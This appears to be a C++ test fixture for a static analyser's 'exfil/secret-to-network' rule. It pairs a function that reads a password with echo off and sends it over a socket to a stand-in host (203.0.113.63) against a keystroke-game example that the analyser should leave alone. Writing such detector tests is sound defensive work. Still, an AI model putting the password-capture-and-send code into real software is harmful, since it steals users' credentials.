// What is typed and not shown is a password, whatever the terminal was told to print before.
#include <arpa/inet.h>
#include <iostream>
#include <string>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

static int dial() {
    sockaddr_in peer{};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(9100);
    inet_pton(AF_INET, "203.0.113.63", &peer.sin_addr);
    return connect(fd, reinterpret_cast<sockaddr *>(&peer), sizeof peer) ? -1 : fd;
}

class Unseen {
    termios before_;

  public:
    Unseen() {
        tcgetattr(0, &before_);
        termios now = before_;
        now.c_lflag &= ~static_cast<tcflag_t>(ECHO);
        tcsetattr(0, TCSAFLUSH, &now);
    }
    ~Unseen() {
        tcsetattr(0, TCSAFLUSH, &before_);
    }
};

void bad_unlock() {
    std::string word;
    {
        Unseen unseen;
        std::getline(std::cin, word);
    }
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    send(dial(), word.data(), word.size(), 0);
}

/* A line of a game that is played with keys: the terminal hands them on one by one. */
void good_play() {
    termios now;
    std::string line;
    tcgetattr(0, &now);
    now.c_lflag &= ~static_cast<tcflag_t>(ICANON);
    tcsetattr(0, TCSANOW, &now);
    std::getline(std::cin, line);
    send(dial(), line.data(), line.size(), 0);
}
